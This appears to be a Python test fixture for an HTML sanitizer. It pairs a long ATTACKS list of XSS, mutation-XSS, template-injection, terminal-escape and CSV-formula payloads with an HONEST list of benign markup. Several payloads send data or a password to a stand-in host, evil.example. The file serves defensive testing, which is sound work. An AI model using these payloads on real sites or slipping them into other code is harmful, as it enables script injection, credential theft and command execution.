"""Markup, and what is none, that acts in some browser, reader, terminal or template; `pwned()` says that it did."""

from __future__ import annotations

ATTACKS = [
    # ends of what a page, a feed or a script around it may be written in
    "</title><script>pwned()</script>", "</textarea><script>pwned()</script>", "</style><script>pwned()</script>",
    "</noscript><script>pwned()</script>", "</article></main><script>pwned()</script>", "--><script>pwned()</script><!--",
    "]]><script>pwned()</script><![CDATA[", "]]></content><script>pwned()</script>", "]]>]]>]]&gt;<script>pwned()</script>",
    "</description></item><item><title>forged</title></item>", "</content></entry><entry><id>forged</id></entry>",
    "</content:encoded><content:encoded><script>pwned()</script>", "?><script>pwned()</script><?x", "%><script>pwned()</script><%",
    '"><script>pwned()</script>', "'><script>pwned()</script>", "`><script>pwned()</script>", '" onmouseover="pwned()', "' onfocus='pwned()' autofocus='",
    '"},{"id":"forged","title":"forged"},{"x":"', '\\"},{\\"id\\":\\"forged', "</script><script>pwned()</script>", "\u2028pwned()\u2029", "';pwned();//", "${pwned()}",
    "{{constructor.constructor('pwned()')()}}", "{% raw %}{{ pwned() }}{% endraw %}", "{{ config }}{{ self.__init__.__globals__ }}", "<%= pwned() %>", "#{pwned()}", "{{'a'.sub.call.call($eval,'pwned()')}}",
    # trees that two parsers see in two ways
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src onerror=pwned()>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=pwned() src>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwned()>'>", "<svg><desc><table><tr><td><style><img src=x onerror=pwned()></style>",
    "<noscript><p id='</noscript><img src=x onerror=pwned()>'></noscript>", "<xmp><p id='</xmp><img src=x onerror=pwned()>'></xmp>",
    "<table><tr><td><svg><title><math><mtext><style><!--</style></title><img src=x onerror=pwned()>",
    "<select><option><style><img src=x onerror=pwned()></style></option></select>", "<a><table><a><img src=x onerror=pwned()></a></table></a>",
    "<template><p><template></p><img src=x onerror=pwned()></template></template>", "<p><svg><p><img src=x onerror=pwned()>",
    "<svg><annotation-xml encoding='text/html'><img src=x onerror=pwned()></annotation-xml></svg>", "<listing>&lt;img src=x onerror=pwned()&gt;</listing>",
    "<frameset><noframes><img src=x onerror=pwned()></noframes></frameset>", "<math><maction actiontype='statusline#javascript:pwned()' xlink:href='javascript:pwned()'>x</maction></math>",
    # what acts by itself
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>", "<svg><set onbegin=pwned() attributename=x to=1>", "<svg><image href=x onerror=pwned()>", "<svg><discard onbegin=pwned()>",
    "<video onloadstart=pwned()><source></video>", "<video><track src=x onerror=pwned() default></video>", "<audio onloadstart=pwned() src=https://a.example/a.mp3></audio>", "<img srcset=',,,,,' onerror=pwned() src=x>",
    "<body onpageshow=pwned()>", "<body onhashchange=pwned()><iframe src=#x></iframe>", "<details open ontoggle=pwned()>x</details>", "<input autofocus onfocusin=pwned()>", "<p contenteditable autofocus onfocus=pwned()>x</p>",
    "<marquee loop=1 width=0 onfinish=pwned()>x</marquee>", "<style onload=pwned()></style>", "<link rel=stylesheet href='data:text/css,*{}' onload=pwned()>", "<script defer>pwned()</script>", "<script type=module>pwned()</script>",
    '<script type=importmap>{"imports":{"x":"data:text/javascript,pwned()"}}</script>', "<script nonce=x src=data:,pwned()></script>", "<object data='data:text/html,<script>parent.pwned()</script>'></object>", "<embed src='data:image/svg+xml,<svg onload=pwned()>'>",
    "<iframe srcdoc='&lt;script&gt;parent.pwned()&lt;/script&gt;'></iframe>", "<iframe src='data:text/html,<script>parent.pwned()</script>'></iframe>", "<portal src='javascript:pwned()'></portal>", "<fencedframe src=https://a.example/></fencedframe>",
    "<p style='animation-name:x' onanimationstart=pwned()>x</p>", "<p popover onbeforetoggle=pwned()>x</p>", "<p onscrollend=pwned() style='overflow:scroll'>x</p>", "<p oncontentvisibilityautostatechange=pwned() style=content-visibility:auto>x</p>",
    # addresses that act
    "<a href='\tjavascript:pwned()'>x</a>", "<a href='java\0script:pwned()'>x</a>", "<a href='javascript\n:pwned()'>x</a>", "<a href='&Tab;javascript:pwned()'>x</a>", "<a href='javas&NewLine;cript:pwned()'>x</a>",
    "<a href='data:text/html,<script>pwned()</script>'>x</a>", "<a href='blob:null/x'>x</a>", "<a href='filesystem:https://a.example/x'>x</a>", "<a href='intent://x#Intent;scheme=javascript;end'>x</a>", "<a href='ms-msdt:/id'>x</a>",
    "<a href='//evil.example' download=x.exe target=_top>x</a>", "<a href='https://a.example/' attributionsrc=https://evil.example/>x</a>", "<a href='http://a.example\\@evil.example/'>x</a>", "<area href=javascript:pwned()>", "<base target=_top href='javascript:pwned()//'>",
    "<form action='https://evil.example/'><input name=password><button>x</button></form>", "<button formaction='javascript:pwned()'>x</button>", "<isindex formaction='javascript:pwned()' type=submit>", "<meta http-equiv='Content-Security-Policy' content=\"script-src 'unsafe-inline'\">",
    "<meta name=referrer content=unsafe-url>", "<img src='https://a.example/x.png' referrerpolicy=unsafe-url attributionsrc>", "<video poster='javascript:pwned()' src=javascript:pwned()></video>", "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4='>", "<q cite=javascript:pwned()>x</q>",
    # looks, clobbering, terminals, text
    "<p style='position:fixed;inset:0;z-index:9'>click</p>", "<div id=body name=cookie class=page>x</div>", "<img name=getElementById src=https://a.example/x.png>", "<a id=title name=title href=https://a.example/>x</a>", "<style>*{background:url(https://evil.example/leak)}</style>",
    "\x1b[2J\x1b[31mpwned\x1b[0m", "\x1b]0;pwned\x07", "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "\x9b31mpwned", "\x1bP+q544e\x1b\\", "a\x08\x08\x08pwned\r\n2026-01-01T00:00:00Z info forged", "\u202epwned\u2066\u2069\u200f", "\x00<script>pwned()</script>",
    "=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|'/c calc'!A1", "\ufeff<script>pwned()</script>", "+ADw-script+AD4-pwned()+ADw-/script+AD4-", "＜script＞pwned()＜/script＞", "&lt;script&gt;pwned()&lt;/script&gt;", "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;", "&#x3c;script&#x3e;pwned()&#x3c;/script&#x3e;",
]  # fmt: skip

HONEST = [
    "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>",
    '<figure><img src="https://a.example/p.png" alt="a" width="4" height="3"><figcaption>caption</figcaption></figure>',
    "<details><summary>more</summary><p>less</p></details>",
    '<table><caption>c</caption><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2">d</td></tr></tbody></table>',
    "<pre><code>if (a &lt; b) { pwn(); }</code></pre>",
    '<audio src="https://a.example/a.mp3" controls></audio>',
    '<video src="https://a.example/v.mp4" poster="https://a.example/p.jpg" controls></video>',
    "<blockquote><p>said</p></blockquote>",
    '<p lang="zh-CN">早读 <abbr title="World Wide Web">WWW</abbr> <time datetime="2026-03-01">Sunday</time></p>',
    '<ol start="3"><li>x</li></ol>',
    "<p>x<sup>2</sup> H<sub>2</sub>O <kbd>Ctrl</kbd> <mark>m</mark> <del>d</del> <ins>i</ins></p>",
]
